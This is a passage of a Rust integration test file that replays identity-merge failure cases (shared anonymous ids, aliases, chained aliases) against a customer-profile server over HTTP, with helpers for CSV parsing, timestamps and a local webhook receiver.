//! The real-world failure cases of `shared/fixtures/cases/cases.jsonl`, one test (or a pair)
//! per case, replayed over HTTP against a fresh real server.
//!
//! Each test is named after its case id and asserts the case's `expect` text. Requests are
//! written inline; only `every_case_has_a_test` reads the jsonl, so a new case cannot go
//! unnoticed. Were a case to need a feature the server does not have, its test would be
//! `#[ignore = "pending: ..."]` and the case listed in `PENDING`.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::{Server, gzip, identity_set, ids, names};
use serde_json::{Value, json};
use time::format_description::well_known::Rfc3339;
use time::{OffsetDateTime, UtcOffset};

/// Cases with at least one test that runs today.
const COVERED: &[&str] = &[
    "BC-01", "BC-02", "BC-03", "BC-04", "BC-06", "BC-07", "BC-08", "BC-09", "BC-10", "BC-11",
    "BC-12", "BC-13", "BC-15", "BC-17", "BC-18", "BC-20", "BC-21", "BC-22", "BC-24", "BC-25",
];

/// Cases whose tests are all ignored until a pending feature lands.
const PENDING: &[&str] = &[];

const DAY_MS: i64 = 86_400_000;

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

/// POSTs an ingest step and asserts 200.
async fn ingest_ok(s: &Server, step: usize, path: &str, body: Value) -> Value {
    let (st, v) = s.ingest(path, &body).await;
    assert_eq!(st, 200, "step {step}: POST {path} {body} -> {st} {v}");
    v
}

/// POSTs an ingest step given as raw JSON text and asserts 200.
async fn ingest_raw_ok(s: &Server, step: usize, path: &str, text: &str) -> Value {
    let (st, v) = s.ingest_raw(path, text.as_bytes().to_vec(), &[]).await;
    assert_eq!(st, 200, "step {step}: POST {path} {text} -> {st} {v}");
    v
}

/// GET /v1/profiles/{key}, asserting 200.
async fn profile(s: &Server, step: usize, key: &str) -> Value {
    let (st, v) = s.get(&format!("/v1/profiles/{key}")).await;
    assert_eq!(st, 200, "step {step}: GET /v1/profiles/{key} -> {st} {v}");
    v
}

/// A profile's id.
fn pid(p: &Value) -> String {
    p["id"]
        .as_str()
        .unwrap_or_else(|| panic!("profile without id: {p}"))
        .to_owned()
}

/// GET /v1/profiles/{key}/events?{query}, asserting 200 and a single page.
async fn events(s: &Server, step: usize, key: &str, query: &str) -> Vec<Value> {
    let path = format!("/v1/profiles/{key}/events?{query}");
    let (st, v) = s.get(&path).await;
    assert_eq!(st, 200, "step {step}: GET {path} -> {st} {v}");
    assert_eq!(
        v["next_cursor"],
        Value::Null,
        "step {step}: more than one page: {v}"
    );
    v["events"].as_array().unwrap().clone()
}

/// A profile's track events (newest first).
async fn tracks(s: &Server, step: usize, key: &str) -> Vec<Value> {
    events(s, step, key, "type=track").await
}

/// The message ids of events, in order.
fn mids(events: &[Value]) -> Vec<String> {
    events
        .iter()
        .map(|e| e["message_id"].as_str().unwrap_or("").to_owned())
        .collect()
}

/// GET /v1/profiles (one page), asserting 200 and the end of the list.
async fn profile_page(s: &Server, step: usize) -> Vec<Value> {
    let (st, v) = s.get("/v1/profiles").await;
    assert_eq!(st, 200, "step {step}: GET /v1/profiles -> {st} {v}");
    assert_eq!(v["next_cursor"], Value::Null, "step {step}: {v}");
    v["profiles"].as_array().unwrap().clone()
}

/// Asserts an error body: flat `{"code", "message", "path"}` with the given code; returns the
/// message.
fn error_message(step: usize, v: &Value, code: &str) -> String {
    assert_eq!(v["code"], code, "step {step}: error code: {v}");
    assert!(
        v.get("path").is_some(),
        "step {step}: error without path: {v}"
    );
    let m = v["message"]
        .as_str()
        .unwrap_or_else(|| panic!("step {step}: error without message: {v}"));
    assert!(!m.trim().is_empty(), "step {step}: empty message: {v}");
    m.to_owned()
}

fn is_snake_case(s: &str) -> bool {
    !s.is_empty()
        && s.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_')
        && !s.starts_with('_')
}

/// Checks an ingest answer's `rejected` entry: index, a snake_case code, a message.
fn rejected_entry(step: usize, r: &Value, index: u64) -> String {
    assert_eq!(r["index"], json!(index), "step {step}: rejected entry {r}");
    let code = r["code"].as_str().unwrap_or("");
    assert!(is_snake_case(code), "step {step}: code not snake_case: {r}");
    r["message"]
        .as_str()
        .unwrap_or_else(|| panic!("step {step}: rejected entry without message: {r}"))
        .to_owned()
}

/// Which key an extra request carries.
#[derive(Clone, Copy)]
enum Auth {
    Write,
    Admin,
    None,
}

/// A request returning status, headers and the raw body bytes.
async fn raw_request(
    s: &Server,
    method: &str,
    path: &str,
    body: Option<Vec<u8>>,
    headers: &[(&str, &str)],
    auth: Auth,
) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let mut req = s
        .http
        .request(method.parse().unwrap(), format!("{}{path}", s.url));
    req = match auth {
        Auth::Write => req.basic_auth(&s.write_key, Some("")),
        Auth::Admin => req.bearer_auth(&s.admin_token),
        Auth::None => req,
    };
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    if let Some(b) = body {
        req = req.body(b);
    }
    let r = req
        .send()
        .await
        .unwrap_or_else(|e| panic!("{method} {path}: {e}"));
    let status = r.status().as_u16();
    let h = r.headers().clone();
    let bytes = r.bytes().await.unwrap().to_vec();
    (status, h, bytes)
}

/// An admin GET whose answer must be 200 and valid UTF-8 text.
async fn get_text(s: &Server, step: usize, path: &str) -> String {
    let (st, _, body) = raw_request(s, "GET", path, None, &[], Auth::Admin).await;
    let text = String::from_utf8(body).unwrap_or_else(|e| panic!("step {step}: not UTF-8: {e}"));
    assert_eq!(st, 200, "step {step}: GET {path} -> {st} {text}");
    text
}

/// The JSON values of the non-empty lines of a JSONL text.
fn jsonl(step: usize, text: &str) -> Vec<Value> {
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            serde_json::from_str(l)
                .unwrap_or_else(|e| panic!("step {step}: bad JSONL line {l:?}: {e}"))
        })
        .collect()
}

/// GET /v1/export/profiles?format=jsonl... as a list of lines.
async fn export_jsonl(s: &Server, step: usize, path: &str) -> Vec<Value> {
    jsonl(step, &get_text(s, step, path).await)
}

/// One CSV cell: its value and whether it was enclosed in double quotes.
type Cell = (String, bool);

/// A strict RFC 4180 reader (records end with CRLF or LF).
fn parse_csv(text: &str) -> Vec<Vec<Cell>> {
    let mut records = Vec::new();
    let mut record: Vec<Cell> = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut in_quotes = false;
    let mut after_quote = false;
    let mut field_start = true;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if in_quotes {
            if c == '"' {
                if chars.peek() == Some(&'"') {
                    chars.next();
                    field.push('"');
                } else {
                    in_quotes = false;
                    after_quote = true;
                }
            } else {
                field.push(c);
            }
            continue;
        }
        match c {
            '"' if field_start => {
                in_quotes = true;
                quoted = true;
                field_start = false;
            }
            ',' => {
                record.push((std::mem::take(&mut field), quoted));
                quoted = false;
                after_quote = false;
                field_start = true;
            }
            '\r' if chars.peek() == Some(&'\n') => {}
            '\n' => {
                record.push((std::mem::take(&mut field), quoted));
                records.push(std::mem::take(&mut record));
                quoted = false;
                after_quote = false;
                field_start = true;
            }
            _ => {
                assert!(!after_quote, "CSV: text after a closing quote: {text:?}");
                assert!(
                    c != '"',
                    "CSV: bare quote inside an unquoted cell: {text:?}"
                );
                field.push(c);
                field_start = false;
            }
        }
    }
    assert!(!in_quotes, "CSV: unterminated quoted cell: {text:?}");
    if !field_start || quoted || !record.is_empty() {
        record.push((field, quoted));
        records.push(record);
    }
    records
}

/// The values of CSV records.
fn csv_values(records: &[Vec<Cell>]) -> Vec<Vec<String>> {
    records
        .iter()
        .map(|r| r.iter().map(|(v, _)| v.clone()).collect())
        .collect()
}

/// Parses an answer's timestamp, asserting RFC 3339 UTC with milliseconds.
fn ts(v: &Value) -> OffsetDateTime {
    let s = v.as_str().unwrap_or_else(|| panic!("not a timestamp: {v}"));
    let b = s.as_bytes();
    let shape = b.len() == 24
        && b.iter().enumerate().all(|(i, c)| match i {
            4 | 7 => *c == b'-',
            10 => *c == b'T',
            13 | 16 => *c == b':',
            19 => *c == b'.',
            23 => *c == b'Z',
            _ => c.is_ascii_digit(),
        });
    assert!(shape, "not RFC 3339 UTC with milliseconds: {s:?}");
    OffsetDateTime::parse(s, &Rfc3339).unwrap()
}

/// `a - b` in milliseconds.
fn ms_between(a: OffsetDateTime, b: OffsetDateTime) -> i128 {
    (a - b).whole_milliseconds()
}

/// RFC 3339 UTC with milliseconds.
fn rfc(t: OffsetDateTime) -> String {
    let t = t.to_offset(UtcOffset::UTC);
    format!(
        "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}Z",
        t.year(),
        t.month() as u8,
        t.day(),
        t.hour(),
        t.minute(),
        t.second(),
        t.millisecond()
    )
}

fn ms(n: i64) -> time::Duration {
    time::Duration::milliseconds(n)
}

/// The wall clock truncated to milliseconds (NOW for a server on the system clock).
fn wall_now() -> OffsetDateTime {
    let t = OffsetDateTime::now_utc();
    t.replace_nanosecond(t.millisecond() as u32 * 1_000_000)
        .unwrap()
}

/// NOW of a server on the manual clock.
async fn server_now(s: &Server) -> OffsetDateTime {
    let (st, v) = s.get("/v1/admin/clock").await;
    assert_eq!(st, 200, "GET /v1/admin/clock -> {v}");
    ts(&v["now"])
}

/// POST /v1/segments (201), then waits until the segment is `ready`.
async fn create_segment(s: &Server, step: usize, body: Value) -> Value {
    let (st, v) = s.admin("POST", "/v1/segments", Some(&body)).await;
    assert_eq!(st, 201, "step {step}: POST /v1/segments {body} -> {st} {v}");
    let id = body["id"].as_str().unwrap();
    let deadline = Instant::now() + Duration::from_secs(600);
    loop {
        let (st, seg) = s.get(&format!("/v1/segments/{id}")).await;
        assert_eq!(st, 200, "step {step}: GET /v1/segments/{id} -> {st} {seg}");
        if seg["status"] == "ready" {
            return seg;
        }
        assert!(
            Instant::now() < deadline,
            "step {step}: segment {id} never ready: {seg}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// GET /v1/segments/{id}/members (one page).
async fn members(s: &Server, step: usize, seg: &str) -> Vec<Value> {
    let path = format!("/v1/segments/{seg}/members");
    let (st, v) = s.get(&path).await;
    assert_eq!(st, 200, "step {step}: GET {path} -> {st} {v}");
    assert_eq!(v["next_cursor"], Value::Null, "step {step}: {v}");
    v["members"].as_array().unwrap().clone()
}

/// "Exactly user-x": one member, whose identities contain `user_id` user-x.
fn assert_only_member(step: usize, members: &[Value], user: &str) {
    assert_eq!(members.len(), 1, "step {step}: members {members:?}");
    assert!(
        identity_set(&members[0]).contains(&("user_id".to_owned(), user.to_owned())),
        "step {step}: member is not {user}: {members:?}"
    );
}

/// The `user_id` values of a list of profiles or members, sorted.
fn user_ids_of(list: &[Value]) -> Vec<String> {
    let mut v: Vec<String> = list
        .iter()
        .flat_map(identity_set)
        .filter(|(t, _)| t == "user_id")
        .map(|(_, v)| v)
        .collect();
    v.sort();
    v
}

/// The pid of this test's server process, found by its unique data dir.
fn server_pid(s: &Server) -> Option<u32> {
    let dir = s.data_dir.to_string_lossy().into_owned();
    for entry in std::fs::read_dir("/proc").ok()?.flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(cmd) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let args: Vec<String> = cmd
            .split(|b| *b == 0)
            .map(|a| String::from_utf8_lossy(a).into_owned())
            .collect();
        if args.iter().any(|a| a == "serve") && args.contains(&dir) {
            return Some(pid);
        }
    }
    None
}

/// A `/proc/PID/status` field in KiB (`VmHWM`, `VmRSS`).
fn proc_kib(pid: u32, field: &str) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status.lines().find_map(|l| {
        l.strip_prefix(field)?
            .trim_start_matches(':')
            .trim()
            .trim_end_matches("kB")
            .trim()
            .parse()
            .ok()
    })
}

// ---------------------------------------------------------------------------------------------
// Webhook receiver (BC-21, BC-22)
// ---------------------------------------------------------------------------------------------

/// One request the receiver got.
#[derive(Clone, Debug)]
struct Hit {
    method: String,
    path: String,
    /// Header names lowercased.
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Hit {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }

    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or_else(|e| {
            panic!(
                "delivery body not JSON ({e}): {}",
                String::from_utf8_lossy(&self.body)
            )
        })
    }
}

/// An HTTP/1.1 server on 127.0.0.1 answering 200 to everything and recording each request.
struct Receiver {
    port: u16,
    hits: Arc<Mutex<Vec<Hit>>>,
    task: tokio::task::JoinHandle<()>,
}

impl Receiver {
    async fn start() -> Receiver {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(Mutex::new(Vec::new()));
        let h = hits.clone();
        let task = tokio::spawn(async move {
            while let Ok((conn, _)) = listener.accept().await {
                tokio::spawn(serve_hook_conn(conn, h.clone()));
            }
        });
        Receiver { port, hits, task }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}/hook", self.port)
    }

    fn hits(&self) -> Vec<Hit> {
        self.hits.lock().unwrap().clone()
    }

    /// Waits (a few seconds at most) for `n` requests in all, then checks that no further
    /// one arrives within another second.
    async fn expect(&self, n: usize) -> Vec<Hit> {
        let deadline = Instant::now() + Duration::from_secs(10);
        while self.hits.lock().unwrap().len() < n {
            assert!(
                Instant::now() < deadline,
                "receiver: expected {n} requests, got {:?}",
                self.hits()
            );
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
        let hits = self.hits();
        assert_eq!(
            hits.len(),
            n,
            "receiver: more requests than expected: {:?}",
            hits.iter().map(Hit::json).collect::<Vec<_>>()
        );
        for h in &hits {
            assert_eq!((h.method.as_str(), h.path.as_str()), ("POST", "/hook"));
        }
        hits
    }
}

impl Drop for Receiver {
    fn drop(&mut self) {
        self.task.abort();
    }
}

fn find_bytes(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// Minimal HTTP/1.1: keep-alive, bodies by Content-Length, always 200.
async fn serve_hook_conn(mut conn: tokio::net::TcpStream, hits: Arc<Mutex<Vec<Hit>>>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut buf = Vec::new();
    let mut tmp = [0u8; 16 * 1024];
    loop {
        let head_end = loop {
            if let Some(p) = find_bytes(&buf, b"\r\n\r\n") {
                break p + 4;
            }
            match conn.read(&mut tmp).await {
                Ok(0) | Err(_) => return,
                Ok(n) => buf.extend_from_slice(&tmp[..n]),
            }
        };
        let head = String::from_utf8_lossy(&buf[..head_end]).into_owned();
        let mut lines = head.split("\r\n");
        let mut request_line = lines.next().unwrap_or("").split(' ');
        let method = request_line.next().unwrap_or("").to_owned();
        let path = request_line.next().unwrap_or("").to_owned();
        let headers: Vec<(String, String)> = lines
            .filter_map(|l| l.split_once(':'))
            .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_owned()))
            .collect();
        let len: usize = headers
            .iter()
            .find(|(k, _)| k == "content-length")
            .and_then(|(_, v)| v.parse().ok())
            .unwrap_or(0);
        while buf.len() < head_end + len {
            match conn.read(&mut tmp).await {
                Ok(0) | Err(_) => return,
                Ok(n) => buf.extend_from_slice(&tmp[..n]),
            }
        }
        let body = buf[head_end..head_end + len].to_vec();
        buf.drain(..head_end + len);
        hits.lock().unwrap().push(Hit {
            method,
            path,
            headers,
            body,
        });
        if conn
            .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n")
            .await
            .is_err()
        {
            return;
        }
    }
}

/// Checks one webhook delivery: its type, segment, profile id, and that
/// `X-User360-Delivery` equals the body's id. Returns the body.
fn check_delivery(hit: &Hit, kind: &str, segment: &str, profile_id: &str) -> Value {
    let body = hit.json();
    assert_eq!(body["type"], kind, "delivery {body}");
    assert_eq!(body["segment"]["id"], segment, "delivery {body}");
    assert_eq!(body["profile"]["id"], profile_id, "delivery {body}");
    let id = body["id"]
        .as_str()
        .unwrap_or_else(|| panic!("no id: {body}"));
    assert!(!id.is_empty(), "delivery {body}");
    assert_eq!(
        hit.header("x-user360-delivery"),
        Some(id),
        "X-User360-Delivery of {body}"
    );
    body
}

// ---------------------------------------------------------------------------------------------
// Coverage
// ---------------------------------------------------------------------------------------------

#[test]
fn every_case_has_a_test() {
    let path = std::env::var("U360_CASES_FILE").unwrap_or_else(|_| {
        format!(
            "{}/../shared/fixtures/cases/cases.jsonl",
            env!("CARGO_MANIFEST_DIR")
        )
    });
    let text = match std::fs::read_to_string(&path) {
        Ok(t) => t,
        // The shared folder sits beside the repo in CI and the team's checkouts; a clone on
        // its own has no case file to compare against (CI always has it, and fails here).
        Err(e) if std::env::var_os("CI").is_none() => {
            eprintln!("skipping: cannot read the cases file {path}: {e} (set U360_CASES_FILE)");
            return;
        }
        Err(e) => panic!("cannot read the cases file {path}: {e}"),
    };
    let source = include_str!("cases.rs");
    let mut seen = BTreeSet::new();
    for line in text.lines().filter(|l| !l.trim().is_empty()) {
        let case: Value = serde_json::from_str(line).unwrap();
        let id = case["id"].as_str().unwrap().to_owned();
        let listed = COVERED.contains(&id.as_str()) as u8 + PENDING.contains(&id.as_str()) as u8;
        assert_eq!(
            listed, 1,
            "case {id} must be in exactly one of COVERED and PENDING (found in {listed})"
        );
        let prefix = format!(
            "async fn bc_{}_",
            id.strip_prefix("BC-").unwrap().to_lowercase()
        );
        assert!(source.contains(&prefix), "no test `{prefix}...` for {id}");
        seen.insert(id);
    }
    for id in COVERED.iter().chain(PENDING) {
        assert!(seen.contains(*id), "{id} is listed but not in {path}");
    }
}

// ---------------------------------------------------------------------------------------------
// BC-01 identity: shared anonymous id fuses two logged-in users
// ---------------------------------------------------------------------------------------------

/// No profile holds two user_id identities or both email addresses.
async fn bc01_invariant(s: &Server, step: usize) {
    for p in s.all_profiles().await {
        let set = identity_set(&p);
        let uids = set.iter().filter(|(t, _)| t == "user_id").count();
        assert!(uids <= 1, "after step {step}: two user_ids on {p}");
        let ava = set.contains(&("email".into(), "ava@example.com".into()));
        let ben = set.contains(&("email".into(), "ben@example.com".into()));
        assert!(!(ava && ben), "after step {step}: both emails on {p}");
    }
}

#[tokio::test]
async fn bc_01_shared_anonymous_id_never_fuses_two_users() {
    let s = Server::start().await;
    ingest_ok(
        &s,
        1,
        "/v1/track",
        json!({"anonymousId": "anon-kiosk-1", "event": "Product Viewed", "properties": {"sku": "SKU-1"}, "messageId": "bc01-1"}),
    )
    .await;
    bc01_invariant(&s, 1).await;
    let anon_profile = pid(&profile(&s, 1, "anonymous_id:anon-kiosk-1").await);
    ingest_ok(
        &s,
        2,
        "/v1/identify",
        json!({"anonymousId": "anon-kiosk-1", "userId": "user-ava", "traits": {"email": "ava@example.com"}, "messageId": "bc01-2"}),
    )
    .await;
    bc01_invariant(&s, 2).await;
    // Step 2 adds user-ava and her email to the anonymous profile of step 1.
    assert_eq!(pid(&profile(&s, 2, "user_id:user-ava").await), anon_profile);
    ingest_ok(
        &s,
        3,
        "/v1/identify",
        json!({"anonymousId": "anon-kiosk-1", "userId": "user-ben", "traits": {"email": "ben@example.com"}, "messageId": "bc01-3"}),
    )
    .await;
    bc01_invariant(&s, 3).await;
    ingest_ok(
        &s,
        4,
        "/v1/track",
        json!({"anonymousId": "anon-kiosk-1", "userId": "user-ben", "event": "Order Completed", "properties": {"total": 20}, "messageId": "bc01-4"}),
    )
    .await;
    bc01_invariant(&s, 4).await;

    let ava = profile(&s, 5, "user_id:user-ava").await;
    assert_eq!(
        identity_set(&ava),
        ids(&[
            ("user_id", "user-ava"),
            ("anonymous_id", "anon-kiosk-1"),
            ("email", "ava@example.com")
        ]),
        "step 5: {ava}"
    );
    assert_eq!(ava["traits"]["email"], "ava@example.com", "step 5: {ava}");
    assert_eq!(ava["merged_from"], json!([]), "step 5: {ava}");
    assert_eq!(pid(&ava), anon_profile);

    let ben = profile(&s, 6, "user_id:user-ben").await;
    assert_ne!(pid(&ben), pid(&ava), "step 6: {ben}");
    assert_eq!(
        identity_set(&ben),
        ids(&[("user_id", "user-ben"), ("email", "ben@example.com")]),
        "step 6: {ben}"
    );
    assert_eq!(ben["traits"]["email"], "ben@example.com", "step 6: {ben}");
    assert_eq!(ben["merged_from"], json!([]), "step 6: {ben}");

    let anon = profile(&s, 7, "anonymous_id:anon-kiosk-1").await;
    assert_eq!(pid(&anon), pid(&ava), "step 7: {anon}");

    let ev = tracks(&s, 8, "user_id:user-ava").await;
    assert_eq!(names(&ev), vec!["Product Viewed"], "step 8: {ev:?}");
    assert_eq!(ev[0]["properties"], json!({"sku": "SKU-1"}), "step 8");

    let ev = tracks(&s, 9, "user_id:user-ben").await;
    assert_eq!(names(&ev), vec!["Order Completed"], "step 9: {ev:?}");
    assert_eq!(ev[0]["properties"], json!({"total": 20}), "step 9");

    let all = profile_page(&s, 10).await;
    assert_eq!(all.len(), 2, "step 10: {all:?}");
    bc01_invariant(&s, 10).await;
}

// ---------------------------------------------------------------------------------------------
// BC-02 identity: alias merges two known users where identify would refuse
// ---------------------------------------------------------------------------------------------

/// Steps 7-11 of BC-02; returns the three profile ids.
async fn bc02_check(s: &Server) -> (String, String, String) {
    let alice = profile(s, 7, "user_id:user-alice").await;
    assert_eq!(
        identity_set(&alice),
        ids(&[
            ("user_id", "user-alice"),
            ("anonymous_id", "anon-a1"),
            ("email", "alice@example.com")
        ]),
        "step 7: {alice}"
    );
    assert_eq!(alice["traits"]["email"], "alice@example.com", "step 7");
    assert_eq!(alice["merged_from"], json!([]), "step 7: {alice}");

    let bob = profile(s, 8, "user_id:user-bob").await;
    assert_ne!(pid(&bob), pid(&alice), "step 8");
    assert_eq!(
        identity_set(&bob),
        ids(&[
            ("user_id", "user-bob"),
            ("anonymous_id", "anon-b1"),
            ("email", "bob@example.org")
        ]),
        "step 8: {bob}"
    );
    assert_eq!(bob["traits"]["email"], "bob@example.org", "step 8");
    assert_eq!(bob["merged_from"], json!([]), "step 8: {bob}");

    let b1 = profile(s, 9, "anonymous_id:anon-b1").await;
    assert_eq!(pid(&b1), pid(&bob), "step 9");

    let carol = profile(s, 10, "anonymous_id:anon-c1").await;
    assert_ne!(pid(&carol), pid(&alice), "step 10");
    assert_ne!(pid(&carol), pid(&bob), "step 10");
    assert_eq!(
        identity_set(&carol),
        ids(&[
            ("user_id", "user-carol"),
            ("email", "carol@example.net"),
            ("anonymous_id", "anon-c1")
        ]),
        "step 10: {carol}"
    );

    let all = profile_page(s, 11).await;
    assert_eq!(all.len(), 3, "step 11: {all:?}");
    (pid(&alice), pid(&bob), pid(&carol))
}

#[tokio::test]
async fn bc_02_alias_cannot_merge_two_known_users() {
    let s = Server::start().await;
    ingest_ok(
        &s,
        1,
        "/v1/identify",
        json!({"userId": "user-alice", "anonymousId": "anon-a1", "traits": {"email": "alice@example.com"}}),
    )
    .await;
    ingest_ok(
        &s,
        2,
        "/v1/identify",
        json!({"userId": "user-bob", "anonymousId": "anon-b1", "traits": {"email": "bob@example.org"}}),
    )
    .await;
    let step3 = json!({"userId": "user-alice", "anonymousId": "anon-b1"});
    let step4 = json!({"previousId": "user-bob", "userId": "user-alice"});
    ingest_ok(&s, 3, "/v1/identify", step3.clone()).await;
    ingest_ok(&s, 4, "/v1/alias", step4.clone()).await;
    ingest_ok(
        &s,
        5,
        "/v1/identify",
        json!({"userId": "user-carol", "traits": {"email": "carol@example.net"}}),
    )
    .await;
    ingest_ok(
        &s,
        6,
        "/v1/identify",
        json!({"userId": "user-carol", "anonymousId": "anon-c1"}),
    )
    .await;
    let first = bc02_check(&s).await;
    // Sending steps 3 and 4 again, any number of times, gives the same result.
    for _ in 0..3 {
        ingest_ok(&s, 3, "/v1/identify", step3.clone()).await;
        ingest_ok(&s, 4, "/v1/alias", step4.clone()).await;
        assert_eq!(bc02_check(&s).await, first);
    }
}

// ---------------------------------------------------------------------------------------------
// BC-03 identity: events after an alias still land on a separate person
// ---------------------------------------------------------------------------------------------

async fn bc03() {
    let s = Server::start().await;
    ingest_ok(
        &s,
        1,
        "/v1/track",
        json!({"anonymousId": "device-77", "event": "Page Viewed", "messageId": "bc03-1"}),
    )
    .await;
    let a = pid(&profile(&s, 2, "anonymous_id:device-77").await);
    ingest_ok(
        &s,
        3,
        "/v1/track",
        json!({"userId": "crm-501", "event": "Invoice Paid", "messageId": "bc03-2"}),
    )
    .await;
    let b = pid(&profile(&s, 4, "user_id:crm-501").await);
    assert_ne!(a, b, "A and B are different ids");
    ingest_ok(
        &s,
        5,
        "/v1/alias",
        json!({"previousId": "device-77", "userId": "crm-501"}),
    )
    .await;
    ingest_ok(
        &s,
        6,
        "/v1/track",
        json!({"anonymousId": "device-77", "event": "Page Scrolled", "messageId": "bc03-3"}),
    )
    .await;
    for (step, key) in [(7, "anonymous_id:device-77"), (8, "user_id:crm-501")] {
        let p = profile(&s, step, key).await;
        assert_eq!(pid(&p), a, "step {step}: {p}");
        assert_eq!(
            identity_set(&p),
            ids(&[("user_id", "crm-501"), ("anonymous_id", "device-77")]),
            "step {step}: {p}"
        );
        assert_eq!(p["merged_from"], json!([b]), "step {step}: {p}");
    }
    let ev = tracks(&s, 9, "user_id:crm-501").await;
    assert_eq!(
        names(&ev),
        vec!["Page Scrolled", "Invoice Paid", "Page Viewed"],
        "step 9: {ev:?}"
    );
    assert_eq!(mids(&ev), vec!["bc03-3", "bc03-2", "bc03-1"], "step 9");
    let rule = json!({"rule": {"all": [{"event": "Page Viewed"}, {"event": "Invoice Paid"}, {"event": "Page Scrolled"}]}});
    let (st, v) = s.admin("POST", "/v1/profiles/query", Some(&rule)).await;
    assert_eq!(st, 200, "step 10: {v}");
    let found = v["profiles"].as_array().unwrap();
    assert_eq!(found.len(), 1, "step 10: {v}");
    assert_eq!(pid(&found[0]), a, "step 10: {v}");
    let all = profile_page(&s, 11).await;
    assert_eq!(all.len(), 1, "step 11: {all:?}");
    assert_eq!(pid(&all[0]), a, "step 11");
}

#[tokio::test]
async fn bc_03_events_after_alias_land_on_the_merged_profile() {
    bc03().await;
}

// ---------------------------------------------------------------------------------------------
// BC-04 identity: chained aliases leave orphan, identity-less profiles
// ---------------------------------------------------------------------------------------------

async fn bc04() {
    let s = Server::start().await;
    ingest_ok(
        &s,
        1,
        "/v1/track",
        json!({"anonymousId": "dev-phone", "event": "App Opened", "messageId": "bc04-1"}),
    )
    .await;
    let a = pid(&profile(&s, 2, "anonymous_id:dev-phone").await);
    ingest_ok(
        &s,
        3,
        "/v1/track",
        json!({"anonymousId": "dev-laptop", "event": "Page Viewed", "messageId": "bc04-2"}),
    )
    .await;
    let laptop = pid(&profile(&s, 3, "anonymous_id:dev-laptop").await);
    assert_ne!(laptop, a, "step 3: dev-laptop starts its own profile");
    ingest_ok(
        &s,
        4,
        "/v1/identify",
        json!({"userId": "user-96129", "anonymousId": "dev-phone"}),
    )
    .await;
    assert_eq!(
        pid(&profile(&s, 4, "user_id:user-96129").await),
        a,
        "step 4"
    );
    ingest_ok(
        &s,
        5,
        "/v1/identify",
        json!({"userId": "user-96129", "anonymousId": "dev-laptop"}),
    )
    .await;
    assert_eq!(
        pid(&profile(&s, 5, "anonymous_id:dev-laptop").await),
        a,
        "step 5 merges the dev-laptop profile into A"
    );
    ingest_ok(
        &s,
        6,
        "/v1/track",
        json!({"anonymousId": "dev-tablet", "event": "App Opened", "messageId": "bc04-3"}),
    )
    .await;
    let tablet = pid(&profile(&s, 6, "anonymous_id:dev-tablet").await);
    assert_ne!(tablet, a, "step 6: dev-tablet starts its own profile");
    ingest_ok(
        &s,
        7,
        "/v1/alias",
        json!({"previousId": "dev-tablet", "userId": "dev-laptop"}),
    )
    .await;
    let t0 = Instant::now();
    ingest_ok(
        &s,
        8,
        "/v1/alias",
        json!({"previousId": "user-96129", "userId": "dev-tablet"}),
    )
    .await;
    assert!(
        t0.elapsed() < Duration::from_secs(1),
        "step 8 took {:?}",
        t0.elapsed()
    );
    let all = export_jsonl(&s, 9, "/v1/export/profiles?format=jsonl").await;
    assert_eq!(all.len(), 1, "step 9: {all:?}");
    assert_eq!(pid(&all[0]), a, "step 9");
    let expected = ids(&[
        ("user_id", "user-96129"),
        ("anonymous_id", "dev-phone"),
        ("anonymous_id", "dev-laptop"),
        ("anonymous_id", "dev-tablet"),
    ]);
    assert_eq!(identity_set(&all[0]), expected, "step 9: {:?}", all[0]);
    let absorbed: BTreeSet<String> = [laptop, tablet].into_iter().collect();
    for (step, key) in [
        (10, "user_id:user-96129"),
        (11, "anonymous_id:dev-phone"),
        (12, "anonymous_id:dev-laptop"),
        (13, "anonymous_id:dev-tablet"),
    ] {
        let p = profile(&s, step, key).await;
        assert_eq!(pid(&p), a, "step {step}: {p}");
        let merged: Vec<String> = p["merged_from"]
            .as_array()
            .unwrap_or_else(|| panic!("step {step}: no merged_from: {p}"))
            .iter()
            .map(|v| v.as_str().unwrap().to_owned())
            .collect();
        assert_eq!(merged.len(), 2, "step {step}: {p}");
        assert_eq!(
            merged.into_iter().collect::<BTreeSet<_>>(),
            absorbed,
            "step {step}: {p}"
        );
        assert_eq!(identity_set(&p), expected, "step {step}: {p}");
    }
    let ev = tracks(&s, 14, "user_id:user-96129").await;
    assert_eq!(
        mids(&ev),
        vec!["bc04-3", "bc04-2", "bc04-1"],
        "step 14: {ev:?}"
    );
    assert_eq!(
        names(&ev),
        vec!["App Opened", "Page Viewed", "App Opened"],
        "step 14"
    );
}

#[tokio::test]
async fn bc_04_chained_aliases_leave_no_orphan_profiles() {
    bc04().await;
}

// ---------------------------------------------------------------------------------------------
// BC-06 identity: numeric userIds rounded through floating point
